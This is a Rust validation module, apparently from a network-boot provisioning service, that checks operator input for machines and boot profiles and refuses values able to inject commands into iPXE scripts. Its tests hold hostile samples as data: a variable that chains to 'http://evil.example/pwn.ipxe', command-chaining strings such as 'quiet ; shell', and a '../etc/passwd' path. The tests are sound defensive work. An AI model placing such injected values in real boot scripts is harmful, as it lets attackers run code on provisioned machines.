//! Operator input as it arrives (strings from JSON, forms or CSV) and its validation into
//! store types. The API and the dashboard share these, so both refuse the same things with
//! the same messages, naming the field.

use serde::Deserialize;

use crate::boot::script_value::{check_script_json, check_script_value};
use crate::mac::{Mac, NOT_A_STATION_MAC};
use crate::store::{MachineSpec, MachineState, Profile, Variables};

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct FieldError {
    pub field: &'static str,
    pub message: String,
}

impl FieldError {
    pub fn new(field: &'static str, message: impl Into<String>) -> FieldError {
        FieldError {
            field,
            message: message.into(),
        }
    }
}

/// Message for `field` among `errors`, for showing next to a form input.
pub fn message_for<'a>(errors: &'a [FieldError], field: &str) -> Option<&'a str> {
    errors
        .iter()
        .find(|e| e.field == field)
        .map(|e| e.message.as_str())
}

/// A machine as an operator describes it. Empty strings mean "not given".
#[derive(Debug, Clone, Default, Deserialize, utoipa::ToSchema)]
#[serde(default)]
pub struct MachineInput {
    pub mac: String,
    pub hostname: String,
    pub profile: Option<String>,
    pub state: Option<String>,
    pub variables: Option<serde_json::Value>,
}

impl MachineInput {
    /// Checks everything that needs no database; whether the profile exists is the caller's
    /// second step ([`MachineInput::profile_name`]).
    pub fn validate(&self) -> Result<(Mac, MachineSpec), Vec<FieldError>> {
        let mut errors = Vec::new();
        let mac = match Mac::parse(&self.mac) {
            Ok(mac) if mac.is_station() => Some(mac),
            Ok(_) => {
                errors.push(FieldError::new("mac", NOT_A_STATION_MAC));
                None
            }
            Err(e) => {
                errors.push(FieldError::new("mac", e.to_string()));
                None
            }
        };
        let hostname = self.hostname.trim().to_ascii_lowercase();
        if let Err(m) = check_hostname(&hostname) {
            errors.push(FieldError::new("hostname", m));
        }
        let profile = self.profile_name();
        let state = match self.state.as_deref().map(str::trim) {
            None | Some("") => None,
            Some(s) => match s.parse::<MachineState>() {
                Ok(st) => Some(st),
                Err(m) => {
                    errors.push(FieldError::new("state", m));
                    None
                }
            },
        };
        if profile.is_none() && matches!(state, Some(MachineState::Ready | MachineState::Reinstall))
        {
            errors.push(FieldError::new(
                "profile",
                format!(
                    "state {} boots a profile: choose one",
                    state.map(|s| s.as_str()).unwrap_or_default()
                ),
            ));
        }
        let variables = match parse_variables(self.variables.as_ref()) {
            Ok(v) => v,
            Err(m) => {
                errors.push(FieldError::new("variables", m));
                Variables::new()
            }
        };
        match mac {
            Some(mac) if errors.is_empty() => Ok((
                mac,
                MachineSpec {
                    hostname,
                    profile,
                    state,
                    variables,
                },
            )),
            _ => Err(errors),
        }
    }

    pub fn profile_name(&self) -> Option<String> {
        self.profile
            .as_deref()
            .map(str::trim)
            .filter(|p| !p.is_empty())
            .map(str::to_string)
    }
}

/// Longest kernel or initrd path or URL.
pub const MAX_PATH_CHARS: usize = 1024;
/// Longest kernel command line template (Linux itself takes 2 048 bytes on x86 after
/// rendering; the template may be longer before).
pub const MAX_CMDLINE_CHARS: usize = 4096;
pub const MAX_DESCRIPTION_CHARS: usize = 1024;
/// Largest variables object, as JSON text.
pub const MAX_VARIABLES_BYTES: usize = 16 * 1024;

/// A value that goes into boot scripts: bounded, and unable to add a line or a command.
fn check_script_field(value: &str, max_chars: usize) -> Result<(), String> {
    if value.chars().count() > max_chars {
        return Err(format!("at most {max_chars} characters"));
    }
    check_script_value(value).map_err(|why| why.to_string())
}

/// Variables arrive as a JSON object, or (from forms) as a string holding one. They are
/// printed into boot scripts, so every string in them must be safe there.
pub fn parse_variables(v: Option<&serde_json::Value>) -> Result<Variables, String> {
    let vars = parse_variables_object(v)?;
    let size = serde_json::to_string(&vars).map(|t| t.len()).unwrap_or(0);
    if size > MAX_VARIABLES_BYTES {
        return Err(format!(
            "at most {MAX_VARIABLES_BYTES} bytes of JSON (this is {size})"
        ));
    }
    check_script_json(&serde_json::Value::Object(vars.clone()))
        .map_err(|why| format!("every key and value {why}"))?;
    Ok(vars)
}

fn parse_variables_object(v: Option<&serde_json::Value>) -> Result<Variables, String> {
    match v {
        None | Some(serde_json::Value::Null) => Ok(Variables::new()),
        Some(serde_json::Value::Object(m)) => Ok(m.clone()),
        Some(serde_json::Value::String(s)) if s.trim().is_empty() => Ok(Variables::new()),
        Some(serde_json::Value::String(s)) => match serde_json::from_str(s) {
            Ok(serde_json::Value::Object(m)) => Ok(m),
            Ok(_) => Err("must be a JSON object, e.g. {\"disk\": \"/dev/sda\"}".into()),
            Err(e) => Err(format!("not valid JSON: {e}")),
        },
        Some(_) => Err("must be a JSON object, e.g. {\"disk\": \"/dev/sda\"}".into()),
    }
}

/// Empty (not named yet) or an RFC 1123 host name.
pub fn check_hostname(h: &str) -> Result<(), String> {
    if h.is_empty() {
        return Ok(());
    }
    let label_ok = |l: &str| {
        !l.is_empty()
            && l.len() <= 63
            && !l.starts_with('-')
            && !l.ends_with('-')
            && l.chars().all(|c| c.is_ascii_alphanumeric() || c == '-')
    };
    if h.len() > 253 || !h.split('.').all(label_ok) {
        return Err(format!(
            "{h:?} is not a host name (letters, digits and '-', dot-separated labels)"
        ));
    }
    Ok(())
}

/// A profile as an operator describes it.
#[derive(Debug, Clone, Default, Deserialize, utoipa::ToSchema)]
#[serde(default)]
pub struct ProfileInput {
    pub name: String,
    pub description: String,
    pub kernel: String,
    pub initrd: String,
    pub cmdline: String,
    pub template: String,
    pub variables: Option<serde_json::Value>,
}

impl ProfileInput {
    pub fn from_profile(p: &Profile) -> ProfileInput {
        ProfileInput {
            name: p.name.clone(),
            description: p.description.clone(),
            kernel: p.kernel.clone(),
            initrd: p.initrd.clone(),
            cmdline: p.cmdline.clone(),
            template: p.template.clone(),
            variables: Some(serde_json::Value::Object(p.variables.clone())),
        }
    }

    pub fn validate(&self) -> Result<Profile, Vec<FieldError>> {
        let mut errors = Vec::new();
        let name = self.name.trim();
        let name_ok = !name.is_empty()
            && name.len() <= 64
            && name
                .chars()
                .all(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.'))
            && !name.starts_with('.');
        if !name_ok {
            errors.push(FieldError::new(
                "name",
                "1-64 letters, digits, '-', '_' or '.', not starting with '.'",
            ));
        }
        let template = match self.template.trim() {
            "" => "install.ipxe",
            t => t,
        };
        // The template names a file in the scripts directory: no paths.
        if template.contains('/') || template.contains('\\') || template.starts_with('.') {
            errors.push(FieldError::new(
                "template",
                "a file name in the boot scripts directory, e.g. install.ipxe",
            ));
        }
        for (field, value, max) in [
            ("kernel", &self.kernel, MAX_PATH_CHARS),
            ("initrd", &self.initrd, MAX_PATH_CHARS),
            ("cmdline", &self.cmdline, MAX_CMDLINE_CHARS),
        ] {
            if let Err(m) = check_script_field(value, max) {
                errors.push(FieldError::new(field, m));
            }
        }
        if self.description.chars().count() > MAX_DESCRIPTION_CHARS {
            errors.push(FieldError::new(
                "description",
                format!("at most {MAX_DESCRIPTION_CHARS} characters"),
            ));
        }
        let variables = match parse_variables(self.variables.as_ref()) {
            Ok(v) => v,
            Err(m) => {
                errors.push(FieldError::new("variables", m));
                Variables::new()
            }
        };
        if !errors.is_empty() {
            return Err(errors);
        }
        Ok(Profile {
            name: name.to_string(),
            description: self.description.trim().to_string(),
            kernel: self.kernel.trim().to_string(),
            initrd: self.initrd.trim().to_string(),
            cmdline: self.cmdline.trim().to_string(),
            template: template.to_string(),
            variables,
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn machine_input_names_each_bad_field() {
        let input = MachineInput {
            mac: "nope".into(),
            hostname: "-bad".into(),
            state: Some("reinstall".into()),
            variables: Some(serde_json::json!([1])),
            ..Default::default()
        };
        let fields: Vec<_> = input
            .validate()
            .unwrap_err()
            .iter()
            .map(|e| e.field)
            .collect();
        assert_eq!(fields, ["mac", "hostname", "profile", "variables"]);
    }

    #[test]
    fn machine_input_normalises() {
        let input = MachineInput {
            mac: "52-54-00-AB-CD-EF".into(),
            hostname: "Node1.Lab".into(),
            profile: Some(" debian ".into()),
            variables: Some(serde_json::json!("{\"a\": 1}")),
            ..Default::default()
        };
        let (mac, spec) = input.validate().unwrap();
        assert_eq!(mac.to_string(), "52:54:00:ab:cd:ef");
        assert_eq!(spec.hostname, "node1.lab");
        assert_eq!(spec.profile.as_deref(), Some("debian"));
        assert_eq!(spec.variables["a"], 1);
    }

    #[test]
    fn values_that_would_inject_into_scripts_are_refused_naming_the_field() {
        let bad_vars = MachineInput {
            mac: "52:54:00:ab:cd:ef".into(),
            variables: Some(serde_json::json!({
                "disk": "/dev/sda\nchain http://evil.example/pwn.ipxe\n#"
            })),
            ..Default::default()
        };
        let errs = bad_vars.validate().unwrap_err();
        assert_eq!(errs[0].field, "variables");
        assert!(errs[0].message.contains("line breaks"), "{errs:?}");
        for (field, p) in [
            (
                "cmdline",
                ProfileInput {
                    name: "p".into(),
                    cmdline: "quiet ; shell".into(),
                    ..Default::default()
                },
            ),
            (
                "kernel",
                ProfileInput {
                    name: "p".into(),
                    kernel: "linux || shell".into(),
                    ..Default::default()
                },
            ),
            (
                "initrd",
                ProfileInput {
                    name: "p".into(),
                    initrd: "initrd\rx".into(),
                    ..Default::default()
                },
            ),
            (
                "variables",
                ProfileInput {
                    name: "p".into(),
                    variables: Some(serde_json::json!({"a #b": "c"})),
                    ..Default::default()
                },
            ),
        ] {
            let errs = p.validate().unwrap_err();
            assert_eq!(errs[0].field, field, "{errs:?}");
        }
    }

    #[test]
    fn fields_are_capped() {
        let huge = serde_json::json!({ "blob": "x".repeat(MAX_VARIABLES_BYTES) });
        let m = MachineInput {
            mac: "52:54:00:ab:cd:ef".into(),
            variables: Some(huge),
            ..Default::default()
        };
        assert_eq!(m.validate().unwrap_err()[0].field, "variables");
        let p = ProfileInput {
            name: "p".into(),
            cmdline: "a".repeat(MAX_CMDLINE_CHARS + 1),
            ..Default::default()
        };
        assert_eq!(p.validate().unwrap_err()[0].field, "cmdline");
        let p = ProfileInput {
            name: "p".into(),
            description: "d".repeat(MAX_DESCRIPTION_CHARS + 1),
            ..Default::default()
        };
        assert_eq!(p.validate().unwrap_err()[0].field, "description");
    }

    #[test]
    fn profile_template_cannot_be_a_path() {
        let p = ProfileInput {
            name: "deb".into(),
            template: "../etc/passwd".into(),
            ..Default::default()
        };
        assert_eq!(p.validate().unwrap_err()[0].field, "template");
        let ok = ProfileInput {
            name: "deb".into(),
            ..Default::default()
        };
        assert_eq!(ok.validate().unwrap().template, "install.ipxe");
    }
}
